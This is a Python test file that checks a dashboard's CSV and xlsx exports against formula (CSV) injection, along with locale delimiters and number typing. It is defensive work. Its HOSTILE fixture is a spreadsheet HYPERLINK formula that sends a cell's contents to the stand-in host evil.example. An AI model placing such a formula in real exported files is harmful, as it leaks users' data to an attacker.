"""Spreadsheet exports (dashboard.exports), read back the way a spreadsheet would.

* A text cell that starts with = + - @ a tab or a carriage return would be read as a
  formula: it gets a leading single quote (OWASP, CSV injection). Numbers stay numbers,
  negative ones too: only text is neutralised.
* CSV: UTF-8 with a byte-order mark; ";" and the decimal comma in French and German (what
  Excel set to those languages reads), "," and the decimal point in English.
* .xlsx: text cells are strings, never formulas; numbers are numbers.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from dashboard import exports

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")'
COLUMNS = ["table", "dimension", "category", "value"]
ROWS = [
    {"table": "kpi", "dimension": "declarations", "category": "", "value": 18},
    {"table": "kpi", "dimension": "manual_review_rate", "category": "", "value": 0.6667},
    {"table": "kpi", "dimension": "median_days_auto", "category": "", "value": None},
    {"table": "reviewers", "dimension": HOSTILE, "category": "decisions", "value": 3},
    {"table": "reviewers", "dimension": "Relecteur·rice 1", "category": "decisions", "value": 2},
    {"table": "reviewers", "dimension": "-2+3", "category": "decisions", "value": 1},
    {"table": "change", "dimension": "backlog", "category": "vs last week", "value": -1.5},
    {"table": "change", "dimension": "declarations", "category": "vs last week", "value": -3},
]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_gets_a_single_quote(start):
    assert exports.neutralise(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["alice", "", "1-2", ">5", "2026-01-05", "a=b", " =1", "'=1"])
def test_other_text_is_left_as_it_is(value):
    assert exports.neutralise(value) == value


@pytest.mark.parametrize("value", [-3, -1.5, 0, 2.375, None])
def test_numbers_and_empty_cells_are_not_text(value):
    assert exports.neutralise(value) is value


def _csv(language: str) -> list[list[str]]:
    data = exports.to_csv(ROWS, COLUMNS, language)
    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs for UTF-8
    dialect = {"fr": ";", "de": ";", "en": ","}[language]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=dialect))


@pytest.mark.parametrize("language", ["fr", "de"])
def test_csv_in_french_and_german_uses_semicolons_and_the_decimal_comma(language):
    header, *rows = _csv(language)
    assert header == COLUMNS
    values = {(r[1], r[2]): r[3] for r in rows}
    assert values["declarations", ""] == "18"
    assert values["manual_review_rate", ""] == "0,6667"
    assert values["median_days_auto", ""] == ""
    assert values["backlog", "vs last week"] == "-1,5"  # a number: no quote
    assert values["declarations", "vs last week"] == "-3"
    assert values["'" + HOSTILE, "decisions"] == "3"  # inert, whole (";" inside is quoted)
    assert values["'-2+3", "decisions"] == "1"  # text that looks like a formula
    assert values["Relecteur·rice 1", "decisions"] == "2"
    assert all(len(r) == 4 for r in rows)


def test_csv_in_english_uses_commas_and_the_decimal_point():
    header, *rows = _csv("en")
    values = {(r[1], r[2]): r[3] for r in rows}
    assert header == COLUMNS
    assert values["manual_review_rate", ""] == "0.6667"
    assert values["backlog", "vs last week"] == "-1.5"
    assert values["'" + HOSTILE, "decisions"] == "3"
    assert all(len(r) == 4 for r in rows)


def test_an_unknown_language_gets_the_french_format():
    assert exports.to_csv(ROWS, COLUMNS, "xx") == exports.to_csv(ROWS, COLUMNS, "fr")


def test_no_cell_of_the_csv_starts_like_a_formula_unless_it_is_a_number():
    for language in ("fr", "de", "en"):
        for row in _csv(language):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell.replace(",", ".") if language != "en" else cell)


def test_xlsx_text_is_never_a_formula_and_numbers_are_numbers():
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(ROWS, COLUMNS, "indicateurs")))
    assert book.sheetnames == ["indicateurs"]
    sheet = book["indicateurs"]
    cells = list(sheet.iter_rows(min_row=1))
    assert [c.value for c in cells[0]] == COLUMNS
    assert len(cells) == 1 + len(ROWS)
    for row in cells:
        for cell in row:
            assert cell.data_type != "f", cell.value  # no formula anywhere
    by_dimension = {(r[1].value, r[2].value): r[3] for r in cells[1:]}
    hostile = sheet.cell(row=5, column=2)
    assert (hostile.data_type, hostile.value) == ("s", "'" + HOSTILE)
    assert by_dimension["declarations", None].value == 18
    assert by_dimension["manual_review_rate", None].value == 0.6667
    assert by_dimension["median_days_auto", None].value is None
    negative = by_dimension["backlog", "vs last week"]
    assert (negative.data_type, negative.value) == ("n", -1.5)
    assert by_dimension["declarations", "vs last week"].value == -3
    assert by_dimension["'-2+3", "decisions"].value == 1
